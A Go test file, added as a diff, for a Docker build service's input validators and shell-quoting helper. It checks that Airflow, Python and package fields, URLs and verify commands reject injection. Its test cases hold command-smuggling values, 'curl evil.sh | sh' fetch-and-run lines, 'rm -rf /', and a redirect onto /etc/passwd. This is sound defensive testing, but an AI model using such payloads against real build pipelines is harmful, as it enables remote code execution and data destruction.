@@ -0,0 +1,113 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestValidateRequestFields(t *testing.T) {
+	valid := DockerBuildRequest{AirflowVersion: "2.9.3", PythonVersion: "3.11"}
+	tests := []struct {
+		name      string
+		edit      func(*DockerBuildRequest)
+		wantField string
+	}{
+		{name: "valid", edit: func(r *DockerBuildRequest) {
+			r.Extras = []string{"amazon", "cncf.kubernetes"}
+			r.AptDeps = []string{"libpq-dev", "git=1:2.39.2-1.1", "gcc:amd64"}
+			r.PipDeps = []string{"pandas>=2.0,<3", "requests[socks]==2.31.0"}
+		}},
+		{name: "airflow version command", edit: func(r *DockerBuildRequest) { r.AirflowVersion = "2.9.3; id" }, wantField: "airflow_version"},
+		{name: "python version substitution", edit: func(r *DockerBuildRequest) { r.PythonVersion = "3.11$(id)" }, wantField: "python_version"},
+		{name: "extra pipe", edit: func(r *DockerBuildRequest) { r.Extras = []string{"amazon|sh"} }, wantField: "extras[0]"},
+		{name: "apt chain", edit: func(r *DockerBuildRequest) { r.AptDeps = []string{"curl && curl evil.sh | sh"} }, wantField: "apt_deps[0]"},
+		{name: "apt backticks", edit: func(r *DockerBuildRequest) { r.AptDeps = []string{"git", "`id`"} }, wantField: "apt_deps[1]"},
+		{name: "apt newline", edit: func(r *DockerBuildRequest) { r.AptDeps = []string{"git\nRUN id"} }, wantField: "apt_deps[0]"},
+		{name: "pip semicolon", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"pandas; rm -rf /"} }, wantField: "pip_deps[0]"},
+		{name: "pip marker", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{`pandas; python_version < "3.12"`} }, wantField: "pip_deps[0]"},
+		{name: "pip redirect", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"pandas > /etc/passwd"} }, wantField: "pip_deps[0]"},
+		{name: "pip newline", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"requests\nRUN curl evil.sh | sh"} }, wantField: "pip_deps[0]"},
+		{name: "pip newline before specifier", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"requests\n==2.31.0"} }, wantField: "pip_deps[0]"},
+		{name: "pip carriage return", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"requests>=2\r,<3"} }, wantField: "pip_deps[0]"},
+		{name: "pip substitution", edit: func(r *DockerBuildRequest) { r.PipDeps = []string{"$(curl evil.sh)"} }, wantField: "pip_deps[0]"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := valid
+			tt.edit(&req)
+			err := validateRequestFields(req)
+			if tt.wantField == "" {
+				if err != nil {
+					t.Fatalf("validateRequestFields() error = %v", err)
+				}
+				return
+			}
+			br, ok := err.(badRequest)
+			if !ok {
+				t.Fatalf("validateRequestFields() error = %v, want a bad request", err)
+			}
+			if len(br.fields) != 1 || br.fields[0].Field != tt.wantField {
+				t.Errorf("validateRequestFields() fields = %+v, want %s", br.fields, tt.wantField)
+			}
+		})
+	}
+}
+
+func TestValidateURLField(t *testing.T) {
+	tests := []struct {
+		raw     string
+		wantErr bool
+	}{
+		{raw: "https://example.com/key.gpg"},
+		{raw: "http://example.com:8080/a?b=c"},
+		{raw: "ftp://example.com/key.gpg", wantErr: true},
+		{raw: "/key.gpg", wantErr: true},
+		{raw: `https://example.com/"; id; "`, wantErr: true},
+		{raw: "https://example.com/$(id)", wantErr: true},
+		{raw: "https://example.com/`id`", wantErr: true},
+		{raw: `https://example.com/a\`, wantErr: true},
+		{raw: "https://example.com/a b", wantErr: true},
+		{raw: "https://example.com/a'b", wantErr: true},
+	}
+	for _, tt := range tests {
+		if err := validateURLField("key_url", tt.raw); (err != nil) != tt.wantErr {
+			t.Errorf("validateURLField(%q) error = %v, want error %v", tt.raw, err, tt.wantErr)
+		}
+	}
+}
+
+func TestValidateVerifyCommands(t *testing.T) {
+	tests := []struct {
+		name     string
+		commands []string
+		wantErr  bool
+	}{
+		{name: "single lines", commands: []string{"airflow version", "python -c 'import pandas' && echo ok"}},
+		{name: "empty", commands: []string{"  "}, wantErr: true},
+		{name: "newline", commands: []string{"true\nRUN id"}, wantErr: true},
+		{name: "carriage return", commands: []string{"true\rRUN id"}, wantErr: true},
+		{name: "continuation", commands: []string{"true \\"}, wantErr: true},
+		{name: "too long", commands: []string{strings.Repeat("x", maxVerifyCommandLength+1)}, wantErr: true},
+		{name: "too many", commands: make([]string, maxVerifyCommands+1), wantErr: true},
+	}
+	for _, tt := range tests {
+		if err := validateVerifyCommands(tt.commands); (err != nil) != tt.wantErr {
+			t.Errorf("%s: validateVerifyCommands() error = %v, want error %v", tt.name, err, tt.wantErr)
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{in: "pandas==2.0", want: "pandas==2.0"},
+		{in: "pandas>=2.0", want: "'pandas>=2.0'"},
+		{in: "a; id", want: "'a; id'"},
+		{in: "$(id)", want: "'$(id)'"},
+		{in: "it's", want: `'it'\''s'`},
+	}
+	for _, tt := range tests {
+		if got := shellQuote(tt.in); got != tt.want {
+			t.Errorf("shellQuote(%q) = %s, want %s", tt.in, got, tt.want)
+		}
+	}
+}